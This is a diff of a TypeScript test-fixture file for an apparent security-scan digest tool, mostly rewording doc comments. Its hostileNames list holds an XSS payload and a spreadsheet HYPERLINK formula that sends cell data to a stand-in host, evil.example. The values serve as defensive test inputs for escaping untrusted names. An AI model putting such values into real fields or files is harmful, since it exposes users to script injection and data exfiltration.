@@ -6,7 +6,7 @@ import { propose, type Remediation } from '../../src/model/remediation/remediati
 import type { Scan } from '../../src/model/scan/scan.js';
 import { aFinding, aScan } from '../storage/examples.js';
 
-/** The night that the examples are about: Tuesday, 24 November 2026. */
+/** The night of the examples: Tuesday, 24 November 2026. */
 export const night = {
   from: '2026-11-23T02:10:00.000Z',
   start: '2026-11-24T02:00:00.000Z',
@@ -27,7 +27,7 @@ export function completeScan(other: Partial<Scan> = {}): Scan {
   });
 }
 
-/** A finding that has stood for weeks; each with another name is another one. */
+/** A finding that is open for weeks; each name gives another finding. */
 export function standing(name: string, other: Partial<Finding> = {}): Finding {
   return aFinding('no-symmetric-signing-key', name, {
     displayName: name,
@@ -52,7 +52,7 @@ export function happened(finding: Finding, type: AuditEvent['type'], at: string 
   return { tenantId, ruleId, findingId: id, at, type, author: 'somebody', summary: '', detail: {} };
 }
 
-/** The digest of a night: findings, each with its history where it has one. */
+/** The digest of a night, from findings with or without their history. */
 export function digestOf(
   findings: readonly (Finding | readonly [Finding, ...AuditEvent[]])[],
   options: { scan?: Partial<Scan>; past?: Partial<AlertHistory>; rules?: Partial<AlertRules>; from?: string } = {},
@@ -68,10 +68,10 @@ export function digestOf(
   return builder.digest();
 }
 
-/** The text as UTF-8 holds it: without lone surrogates. */
+/** The text without lone surrogates, as UTF-8 encodes it. */
 export const wellFormed = (text: string) => Buffer.from(text).toString('utf8');
 
-/** Names that strangers might give to an application. */
+/** Hostile names of an application. */
 export const hostileNames = [
   '<img src=x onerror=alert(1)>',
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
